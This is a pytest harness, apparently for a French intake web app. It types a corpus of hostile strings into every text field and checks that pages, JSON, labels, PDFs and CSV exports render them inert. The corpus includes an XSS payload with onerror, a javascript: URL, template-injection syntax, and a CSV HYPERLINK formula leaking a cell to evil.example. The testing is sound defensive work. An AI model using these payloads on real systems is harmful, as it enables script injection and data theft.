"""Proof harness, CI part: nasty strings through every free-text field, then every place they come out.

Each string of the corpus (markup, template syntax, spreadsheet formulas, 10 KB,
right-to-left and zero-width characters, NUL and other controls) is typed into
every field where people type text, through the API and the pages. Each entry
is either stored exactly as typed or refused with a message, never a server
error; control characters are refused. Then every page, JSON answer, label,
PDF and CSV that shows those fields is read back: pages and JSON carry the text
as inert text, labels still scan to the item's address, PDFs hold the text and
no action, and CSV cells cannot run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import uuid
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urlencode

import pypdfium2
import pytest
import sqlalchemy as sa
import zxingcpp
from PIL import Image

from intake.extensions import db
from intake.models import (AccompanimentSession, Category, CollectionPoint, Handover, Item, Organisation,
                           RecyclingBatch, Sale)
from intake.services.accounts import issue_token
from intake.services.status import change_status

from .conftest import AuthActions
from .factories import make_handover, make_item, make_ready, user

BASE_URL = "https://intake.example.org"
MARKER = "alert(1337)"
CORPUS = {
    "plain": "Ça va",  # the control: every free-text field stores it (short: postcodes hold 10 characters)
    "markup": f"<script>{MARKER}</script>\"><img src=x onerror={MARKER}>'",
    "url-and-template": f"javascript:{MARKER}//{{{{7*7}}}}${{7*7}}{{% print 7*7 %}}",
    "formula": '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
    "formula-after-spaces": "   =1+1",
    "formula-after-newline": "\n=1+1",
    "10-kb": "Très long texte " * 640,
    "bidi-zero-width-emoji": "\u202eFDP.exe\u202c שלום مرحبا ze\u200bro\u2060 🚲👍🏽",
    "nul": "avant\x00après",
    "controls": "cloche\x07 échap\x1b[31m suppr\x7f",
    "lone-surrogate": "moitié \ud800 de caractère",  # JSON can carry it (\\ud800); a form post cannot
}
# Text that no field may keep: C0 controls but tab and line breaks, DEL, and halves of UTF-16 pairs.
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]")
FORM_SAFE = {name for name, text in CORPUS.items() if not re.search("[\ud800-\udfff]", text)}


def form_can_carry(text: str) -> bool:
    """A form is posted as UTF-8, which has no halves of UTF-16 pairs."""
    return not re.search("[\ud800-\udfff]", text)


def must_refuse(text: str) -> bool:
    return bool(FORBIDDEN.search(text))


# Reading outputs -------------------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every element's attributes, and the text of scripts that would run."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on") and MARKER in value:
                self.problems.append(f"<{tag} {name}=…{MARKER}>: an event handler from typed text")
            if name in ("href", "src", "action", "formaction") and value.strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>: a javascript: address")
        if tag == "img" and attrs.get("src") == "x":
            self.problems.append("<img src=x>: an element made from typed text")
        self._in_script = tag == "script" and attrs.get("type") in (None, "", "module", "text/javascript")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and MARKER in data:
            self.problems.append(f"<script>…{MARKER}: typed text runs as a script")


def html_problems(html: str, payload: str) -> list[str]:
    parser = Elements()
    parser.feed(html)
    problems = parser.problems
    if re.search("[<>\"'&]", payload) and payload.strip() in html:
        problems.append("the text is in the page unescaped")
    return problems


def decoded_qr(image: Image.Image) -> list[str]:
    return [result.text for result in zxingcpp.read_barcodes(image.convert("L"))]


def pdf_text(data: bytes) -> str:
    document = pypdfium2.PdfDocument(data)
    return "\n".join(page.get_textpage().get_text_range() for page in document)


def pdf_visible(text: str) -> str:
    """What a PDF with Latin-1 fonts can show of a text, without any white space, to compare."""
    text = "".join(ch for ch in unicodedata.normalize("NFC", text) if unicodedata.category(ch)[0] not in "CZ")
    return re.sub(r"\s", "", text.encode("latin-1", "ignore").decode("latin-1"))


FORMULA_START = re.compile(r"^[\s]*[=+\-@]")


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]


# The run of one string -------------------------------------------------------------------------------


@dataclass
class Entry:
    where: str
    field: str
    value: str
    stored: bool = False
    code: str | None = None  # the item an intake through the API made


@dataclass
class Probe:
    """Types one string everywhere and reads everything back, collecting what goes wrong."""

    app: object
    world: object
    payload: str
    clients: dict = field(default_factory=dict)
    tokens: dict = field(default_factory=dict)
    csrf: dict = field(default_factory=dict)
    entries: list = field(default_factory=list)
    problems: list = field(default_factory=list)

    def value(self) -> str:
        """The string with a short tag of its own, to find each entry among the others."""
        return f"{self.payload}~{len(self.entries)}"

    def strings_stored(self) -> set[str]:
        """Every text the database holds, JSON values included."""
        found = set()

        def walk(value):
            if isinstance(value, str):
                found.add(value)
            elif isinstance(value, dict):
                for inner in value.values():
                    walk(inner)
            elif isinstance(value, list):
                for inner in value:
                    walk(inner)

        with db.engine.connect() as connection:
            for table in db.metadata.sorted_tables:
                columns = [c for c in table.columns if isinstance(c.type, (sa.String, sa.Text, sa.JSON))]
                if columns:
                    for row in connection.execute(sa.select(*columns)):
                        for value in row:
                            walk(value)
        return found

    def settle(self, entry: Entry, status: int, answer: str, refused_visibly: bool) -> None:
        """Stored exactly, or refused with a message; never a server error; control characters refused."""
        self.entries.append(entry)
        if status >= 500:
            self.problems.append(f"{entry.where} [{entry.field}]: server error {status}")
            return
        with self.app.app_context():
            stored = self.strings_stored()
        entry.stored = entry.value in stored or entry.value.strip() in stored
        if entry.stored and must_refuse(entry.value):
            self.problems.append(f"{entry.where} [{entry.field}]: control characters stored instead of refused")
        elif not entry.stored and not refused_visibly:
            tag = "~" + entry.value.rsplit("~", 1)[1]
            altered = any(text.endswith(tag) for text in stored)
            self.problems.append(f"{entry.where} [{entry.field}]: "
                                 + ("stored altered" if altered else "neither stored nor refused with a message")
                                 + f" (status {status}: {answer[:160]!r})")

    # Entering text ---------------------------------------------------------------------------------

    def api(self, role: str, method: str, url: str, body: dict, name: str) -> None:
        # json.dumps escapes what UTF-8 cannot carry (a lone surrogate becomes \\ud800), as browsers do.
        response = self.clients[role].open(url, method=method, data=json.dumps(body), content_type="application/json",
                                           headers={"Authorization": f"Bearer {self.tokens[role]}"})
        answer = response.get_data(as_text=True)
        said = response.get_json(silent=True) or {} if response.status_code in (400, 422) else {}
        answered = response.get_json(silent=True) if response.status_code in (200, 201) else None
        self.settle(Entry(f"API {method} {url}", name, body[name], code=(answered or {}).get("code")),
                    response.status_code, answer, refused_visibly=name in str(said.get("errors")) or bool(
                        response.status_code == 422 and not said.get("errors") and said.get("message")))

    def form(self, role: str, url: str, data: dict, name: str) -> None:
        if not form_can_carry(self.payload):
            return
        response = self.clients[role].post(url, data={"csrf_token": self.csrf[role], **data}, follow_redirects=True)
        html = response.get_data(as_text=True)
        # A message beside the field, on top of the form, or an error page of its own that says why.
        shown = 'class="error"' in html or "flash-error" in html or 'role="alert"' in html or (
            response.status_code in (400, 422) and "<h1>" in html)
        self.settle(Entry(f"form {url}", name, data[name]), response.status_code, html, refused_visibly=shown)

    def check_page(self, role: str, url: str, answers=(200,)) -> str:
        response = self.clients[role].get(url, follow_redirects=True)
        if response.status_code not in answers:
            self.problems.append(f"page {url} as {role}: status {response.status_code}")
        html = response.get_data(as_text=True)
        self.problems += [f"page {url} as {role}: {problem}" for problem in html_problems(html, self.payload)]
        return html


def sign_in(app, role: str):
    client = app.test_client()
    actions = AuthActions(client)
    actions.login_as(role)
    return client, actions.csrf_token("/")


@pytest.fixture
def app(app):
    app.config["PUBLIC_BASE_URL"] = BASE_URL
    return app


def enter_everywhere(probe: Probe) -> dict:
    """Type the string into every free-text field; returns what was made, to read it back."""
    world, app = probe.world, probe.app
    with app.app_context():
        eco = Organisation(name="Ecosystem", kind="eco_organism")
        db.session.add(eco)
        db.session.commit()
        eco_id = eco.id
        fresh = [make_item(world).code for _ in range(4)]
        phones = [make_item(world).code for _ in range(6)]
        ready = [make_ready(world).code for _ in range(5)]
        handover = make_handover(world)
        handover_id, handed_code = handover.id, handover.item.code
        to_recycle = make_item(world, category_id=world.bike_id, weight_kg=14)
        change_status(db.session, to_recycle, "to_recycle", user=user(world, "technician"))
        recycle_code = to_recycle.code
    item = {"category_id": world.phone_id, "weight_kg": 0.2, "grade": "B", "collection_point_id": world.point_id}

    # Intake: the API and the page, one field at a time; a pre-printed code is never free text.
    for name in ("brand", "model", "serial_number", "description", "code"):
        probe.api("volunteer", "POST", "/api/v1/items", {"client_uuid": str(uuid.uuid4()), **item,
                                                         name: probe.value()}, name)
    for name in ("brand", "model", "serial_number", "description", "code"):
        page = probe.clients["volunteer"].get("/intake").get_data(as_text=True)
        client_uuid = re.search(r'name="client_uuid"[^>]*value="([^"]+)"', page).group(1)
        probe.form("volunteer", "/intake", {"client_uuid": client_uuid, "category_id": world.phone_id,
                                            "weight_kg": "0,2", "grade": "B", "source_id": 0,
                                            name: probe.value()}, name)

    # Workshop: moves with a note or parts (API and page), checklists, erasure records, scanning.
    for code, name in zip(fresh, ("note", "parts")):
        probe.api("technician", "POST", f"/api/v1/items/{code}/transitions", {"to": "diagnosing",
                                                                              name: probe.value()}, name)
    for code, name in zip(fresh[2:], ("note", "parts")):
        probe.form("technician", f"/i/{code}/status", {"to": "diagnosing", "seen_status": "received",
                                                       name: probe.value()}, name)
    for code, name in zip(phones, ("note", "parts")):
        checks = {f"check-{index}": "pass" for index in range(12)}
        probe.form("technician", f"/i/{code}/checklist", {**checks, name: probe.value()}, name)
    erasure = {"level": "purge", "method": "ATA Secure Erase", "tool": "nwipe", "tool_version": "0.35",
               "verification": "passed", "storage_serial": "S3Z9", "certificate_ref": "CERT-1"}
    for code, name in zip(phones[2:] + phones[:1], ("method", "tool", "tool_version", "storage_serial",
                                                    "certificate_ref")):
        probe.form("technician", f"/i/{code}/erasure", {**erasure, name: probe.value()}, name)

    # Outcomes: a sale's note, a handover's fields, a return's note, a training session, a recycling batch.
    probe.form("technician", f"/i/{ready[0]}/sale", {"price": "10", "sold_on": date.today().isoformat(),
                                                    "channel": "shop", "warranty_months": "6",
                                                    "note": probe.value()}, "note")
    handover_form = {"landlord_id": world.landlord_org_id, "residence": "Les Justices", "tenant_ref": "LJ-1",
                     "handed_on": date.today().isoformat(), "warranty_months": "12", "acceptance": "typed_name",
                     "typed_name": "Camille Martin", "tenant_contact": "06 00 00 00 00"}
    for code, name in zip(ready[1:], ("residence", "tenant_ref", "typed_name", "tenant_contact")):
        probe.form("technician", f"/i/{code}/handover", {**handover_form, name: probe.value()}, name)
    probe.form("technician", f"/i/{handed_code}/return", {"reason": "breakdown", "note": probe.value()}, "note")
    probe.form("technician", f"/handovers/{handover_id}/sessions", {"topic": probe.value(), "partner_id": "0",
                                                                   "planned_on": date.today().isoformat()}, "topic")

    # Reference data, as coordinators type it.
    organisation = {"kind": "eco_organism", "siren": "", "address": "", "postcode": "", "city": "", "email": "",
                    "phone": "", "active": "y"}
    for number, name in enumerate(("name", "address", "postcode", "city", "phone", "siren", "email")):
        probe.form("coordinator", "/admin/organisations/new", {**organisation, "name": f"Partenaire {number}",
                                                               name: probe.value()}, name)
    for number, name in enumerate(("name", "insee_code")):
        probe.form("coordinator", "/admin/territories/new", {"name": f"Commune {number}", "population": "1000",
                                                             "zone_type": "rural", name: probe.value()}, name)
    point = {"organisation_id": 0, "territory_id": 0, "address": "", "printer_uri": "", "printer_stock": "",
             "label_offset_x_mm": "0", "label_offset_y_mm": "0", "active": "y"}
    for number, name in enumerate(("name", "address", "printer_uri")):
        probe.form("coordinator", "/admin/collection-points/new", {**point, "name": f"Point {number}",
                                                                   name: probe.value()}, name)
    category = {"parent_id": 0, "family": "leisure", "deee_category": "", "ords_category": "", "data_bearing": "",
                "default_weight_kg": "1", "icon": "", "checklist": "", "active": "y"}
    for number, name in enumerate(("name", "ords_category", "icon", "checklist")):
        probe.form("coordinator", "/admin/categories/new", {**category, "name": f"Catégorie {number}",
                                                            name: probe.value()}, name)
    probe.form("coordinator", "/admin/containers/new", {"name": probe.value(), "tare_kg": "0,5", "active": "y"},
               "name")
    for number, name in enumerate(("name", "email")):
        probe.form("coordinator", "/admin/users/new", {"email": f"compte{number}@example.org", "name": "Compte",
                                                       "role": "technician", "organisation_id": 0,
                                                       "password": "assez long oui", "active": "y",
                                                       name: probe.value()}, name)

    # A recycling batch from the eco-organism whose name was typed, if one was kept.
    with app.app_context():
        typed_eco = db.session.scalar(sa.select(Organisation.id).where(Organisation.kind == "eco_organism",
                                                                       Organisation.id != eco_id)
                                      .order_by(Organisation.id))
    batch = {"eco_organism_id": typed_eco or eco_id, "stream": "other", "pickup_on": date.today().isoformat(),
             "waste_code": "20 03 07", "slip_number": "BSD-1", "weighed_kg": ""}
    for name in ("waste_code", "slip_number"):
        probe.form("technician", "/recycling/new", {**batch, name: probe.value()}, name)
    with app.app_context():
        batch_ids = list(db.session.scalars(sa.select(RecyclingBatch.id).order_by(RecyclingBatch.id)))
    if batch_ids:
        probe.form("technician", f"/recycling/{batch_ids[0]}", {"codes": f"{recycle_code} {probe.value()}"}, "codes")
        probe.clients["coordinator"].post(f"/recycling/{batch_ids[0]}/close",
                                          data={"csrf_token": probe.csrf["coordinator"]})

    # Items in the category and at the point whose names were typed, so that labels carry them.
    with app.app_context():
        categories = db.session.scalars(sa.select(Category.id).where(Category.name.like("%~%"))).all()
        points = db.session.scalars(sa.select(CollectionPoint.id).where(CollectionPoint.name.like("%~%"))).all()
        for category_id in categories:
            make_item(world, category_id=category_id, weight_kg=1)
        for point_id in points:
            make_item(world, collection_point_id=point_id)
    return {"batch_ids": batch_ids, "handover_id": handover_id}


def read_everything_back(probe: Probe, made: dict) -> None:
    app, payload = probe.app, probe.payload
    with app.app_context():
        codes = list(db.session.scalars(sa.select(Item.code).order_by(Item.id)))
        handovers = list(db.session.scalars(sa.select(Handover.id).order_by(Handover.id)))
        mine = list(db.session.scalars(sa.select(Handover.id).where(
            Handover.landlord_id == probe.world.landlord_org_id)))
        sales = list(db.session.scalars(sa.select(Sale.id)))
        typed = list(db.session.scalars(sa.select(Item.code).where(sa.or_(
            Item.brand.like("%~%"), Item.model.like("%~%"), Item.description.like("%~%"),
            Item.category.has(Category.name.like("%~%")),
            Item.collection_point.has(CollectionPoint.name.like("%~%"))))))
        sessions = list(db.session.scalars(sa.select(AccompanimentSession.topic)))
    stored = [entry for entry in probe.entries if entry.stored]

    # Pages, as each role sees them.
    pages = {
        "technician": ["/", "/items", "/workshop", "/recycling", "/scan/many",
                       *[f"/i/{code}" for code in codes], *[f"/i/{code}/history" for code in codes],
                       *[f"/handovers/{number}" for number in handovers], *[f"/sales/{number}/receipt" for number in sales],
                       *[f"/recycling/{number}" for number in made["batch_ids"]],
                       "/labels/print?codes=" + "+".join(codes)],
        "coordinator": ["/", "/indicators", "/landlord-access", "/labels", "/labels/preprinted",
                        *[f"/admin/{slug}/" for slug in ("organisations", "territories", "collection-points",
                                                         "categories", "containers", "users")],
                        *[f"/handovers/{number}" for number in handovers]],
        "volunteer": ["/", "/intake", "/intake/setup", "/items"],
        "landlord": ["/", "/landlord/", *[f"/landlord/handovers/{number}" for number in mine]],
        "anonymous": [f"/i/{code}" for code in codes],
    }
    for role, urls in pages.items():
        for url in urls:
            probe.check_page(role, url)
    if form_can_carry(payload):
        # A code typed into the scan page's box: found, not found, or refused with a message.
        probe.check_page("technician", "/scan/go?" + urlencode({"code": payload[:200]}), (200, 400, 404, 422))

    # JSON: the API gives back exactly what was stored.
    for entry in stored:
        if entry.code:
            answer = probe.clients["technician"].get(f"/api/v1/items/{entry.code}",
                                                     headers={"Authorization": f"Bearer {probe.tokens['technician']}"})
            item = answer.get_json() if answer.is_json else {}
            values = [item.get(entry.field)] + [event.get(entry.field) for event in item.get("events", [])]
            if not {entry.value, entry.value.strip()} & set(values):
                probe.problems.append(f"JSON: {entry.field} of {entry.code} does not read back as stored")
    answer = probe.clients["landlord"].get("/api/v1/landlord/handovers",
                                           headers={"Authorization": f"Bearer {probe.tokens['landlord']}"})
    if answer.status_code != 200 or not answer.is_json:
        probe.problems.append(f"landlord API: status {answer.status_code}")
    else:
        values = {value for row in answer.get_json() for value in row.values() if isinstance(value, str)}
        for entry in stored:
            if entry.field in ("residence", "tenant_ref") and entry.value not in values \
                    and entry.value.strip() not in values:
                probe.problems.append(f"landlord API: {entry.field} does not read back as stored")

    # Labels: whatever the text printed on them, they scan to the item's address.
    for code in typed[:4]:
        png = probe.clients["technician"].get(f"/i/{code}/label.png?stock=brother-dk-11209")
        if png.status_code != 200 or decoded_qr(Image.open(io.BytesIO(png.data))) != [f"{BASE_URL}/i/{code}"]:
            probe.problems.append(f"label.png of {code}: status {png.status_code}, does not scan to its address")
        pdf = probe.clients["technician"].get(f"/i/{code}/label.pdf?stock=brother-dk-11209")
        if pdf.status_code != 200:
            probe.problems.append(f"label.pdf of {code}: status {pdf.status_code}")
            continue
        raster = pypdfium2.PdfDocument(pdf.data)[0].render(scale=300 / 72).to_pil()
        if f"{BASE_URL}/i/{code}" not in decoded_qr(raster):
            probe.problems.append(f"label.pdf of {code}: does not scan to its address")

    # PDFs: the receipts hold the typed text as text, and nothing that acts.
    for role, url in [("technician", f"/handovers/{number}/receipt.pdf") for number in handovers] + \
                     [("landlord", f"/landlord/handovers/{number}/receipt.pdf") for number in mine]:
        response = probe.clients[role].get(url)
        if response.status_code != 200 or not response.data.startswith(b"%PDF"):
            probe.problems.append(f"{url} as {role}: status {response.status_code}")
            continue
        if re.search(rb"/(JavaScript|JS|Launch|SubmitForm|ImportData)\b", response.data):
            probe.problems.append(f"{url}: the PDF holds an action")
        text = pdf_visible(pdf_text(response.data))
        for entry in stored:
            if entry.field in ("residence", "tenant_ref") and pdf_visible(entry.value) not in text:
                with app.app_context():
                    on_this = db.session.scalar(sa.select(sa.func.count(Handover.id)).where(
                        getattr(Handover, entry.field).in_([entry.value, entry.value.strip()]),
                        Handover.id == int(url.split("/")[-2])))
                if on_this:
                    probe.problems.append(f"{url}: {entry.field} missing from the PDF's text")
        for topic in sessions:
            if "~" in topic and str(made["handover_id"]) == url.split("/")[-2] and pdf_visible(topic) not in text:
                probe.problems.append(f"{url}: the session's topic missing from the PDF's text")

    # CSV: no cell runs as a formula, and typed text is there.
    with app.app_context():
        closed = db.session.execute(sa.select(RecyclingBatch.waste_code, RecyclingBatch.slip_number)
                                    .where(RecyclingBatch.state == "closed")).all()
    expected = {"/landlord/export.csv": [entry.value for entry in stored if entry.field in ("residence", "tenant_ref")],
                "/recycling/register.csv": [text for row in closed for text in row if text and "~" in text]}
    for role, url in (("landlord", "/landlord/export.csv"), ("coordinator", "/recycling/register.csv")):
        response = probe.clients[role].get(url)
        if response.status_code != 200:
            probe.problems.append(f"{url}: status {response.status_code}")
            continue
        cells = csv_cells(response.get_data(as_text=True))
        for cell in cells:
            if FORMULA_START.match(cell) and not cell.startswith("'"):
                probe.problems.append(f"{url}: the cell {cell[:30]!r} runs as a formula")
        kept = {cell.removeprefix("'").strip() for cell in cells}
        for text in expected[url]:
            if text.strip() not in kept:
                probe.problems.append(f"{url}: {text[:30]!r} missing")


@pytest.mark.parametrize("name", list(CORPUS))
def test_nasty_strings_are_stored_or_refused_and_inert_everywhere(app, world, name):
    probe = Probe(app, world, CORPUS[name])
    with app.app_context():
        for role in ("volunteer", "technician", "coordinator", "landlord"):
            probe.tokens[role] = issue_token(db.session, user(world, role))
    for role in ("volunteer", "technician", "coordinator", "landlord"):
        probe.clients[role], probe.csrf[role] = sign_in(app, role)
    probe.clients["anonymous"] = app.test_client()
    probe.clients["volunteer"].post("/intake/setup", data={"collection_point_id": world.point_id, "source_id": 0,
                                                           "csrf_token": probe.csrf["volunteer"]})
    made = enter_everywhere(probe)
    read_everything_back(probe, made)
    if name == "plain":
        formatted = {"code", "siren", "email", "printer_uri", "codes", "waste_code"}
        probe.problems += [f"{entry.where} [{entry.field}]: ordinary text refused" for entry in probe.entries
                           if not entry.stored and entry.field not in formatted]
    assert len(probe.entries) >= (30 if name in FORM_SAFE else 7)
    assert probe.problems == [], f"{len(probe.problems)} problems with {name!r}:\n" + "\n".join(probe.problems)
